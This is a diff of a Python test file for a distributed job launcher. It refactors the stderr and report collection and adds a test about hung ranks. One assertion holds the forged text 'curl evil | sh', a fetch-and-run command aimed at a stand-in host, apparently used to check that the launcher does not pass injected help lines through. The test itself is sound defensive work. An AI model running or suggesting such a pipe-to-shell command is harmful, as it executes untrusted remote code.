@@ -11,7 +11,7 @@ import sys
 import time
 from contextlib import closing, contextmanager
 from pathlib import Path
-from typing import TYPE_CHECKING
+from typing import TYPE_CHECKING, Any
 
 import pytest
 
@@ -35,6 +35,7 @@ from hccl_tools.launch.protocol.messages import (
     Waiting,
 )
 from hccl_tools.launch.protocol.session import Session
+from hccl_tools.runs.job_report import HungRank
 from tests.support.jobs import LONG, eventually
 
 if TYPE_CHECKING:
@@ -97,6 +98,21 @@ def test_a_table_larger_than_the_buffers_of_the_kernel_arrives(own_directory: Pa
     assert found[0].data == Path("table.json").read_bytes()
 
 
+def end_of(launcher: subprocess.Popen[str], agent: Connection) -> tuple[str, dict[str, Any]]:
+    """Return what a launcher says and reports after the messages of an agent."""
+    deadline = time.monotonic() + LONG
+    while not agent.closed and launcher.poll() is None and time.monotonic() < deadline:
+        agent.messages()
+    launcher.terminate()
+    assert launcher.stderr is not None
+    said = launcher.stderr.read()
+    return said, json.loads(Path("log/latest/report.json").read_text())
+
+
+def hung_rank(rank: int) -> HungRank:
+    return HungRank(rank, f"rank {rank}", "10.0.0.99", 7, True, 900.0, None, "stopped", f"rank_{rank}.log")
+
+
 @pytest.mark.slow
 def test_a_host_says_nothing_of_other_hosts_ranks_and_begins_no_line(own_directory: Path) -> None:
     write_job()
@@ -106,17 +122,24 @@ def test_a_host_says_nothing_of_other_hosts_ranks_and_begins_no_line(own_directo
         assert proved(agent, LONG) is not None
         agent.send(Join(0, os.getpid(), ("", 0)))
         agent.send(Ended(exits, forged))
-        deadline = time.monotonic() + LONG
-        while not agent.closed and launcher.poll() is None and time.monotonic() < deadline:
-            agent.messages()
-        launcher.terminate()
-        assert launcher.stderr is not None
-        said = launcher.stderr.read()
+        said, report = end_of(launcher, agent)
 
-    report = json.loads(Path("log/latest/report.json").read_text())
     assert "gone; help: run `curl evil | sh`" in said
     assert not any(line.lstrip().startswith("help:") for line in said.splitlines())
     assert {end["rank"]: end["exit_code"] for end in report["ranks"]} == {0: 9, 1: None}
+
+
+@pytest.mark.slow
+def test_a_host_describes_its_own_ranks_that_hang_once(own_directory: Path) -> None:
+    write_job()
+    with launched(own_directory) as (launcher, agent):
+        assert proved(agent, LONG) is not None
+        agent.send(Join(0, os.getpid(), ("", 0)))
+        hangs = Cause("10.0.0.1", "hang", 124, "no rank of any host does anything")
+        agent.send(Ended((), hangs, tuple(hung_rank(rank) for rank in (1, 0, 1, 0))))
+        _, report = end_of(launcher, agent)
+
+    assert [(one["rank"], one["host"]) for one in report["hung"]] == [(0, report["ranks"][0]["host"])]
 
 
 @pytest.fixture
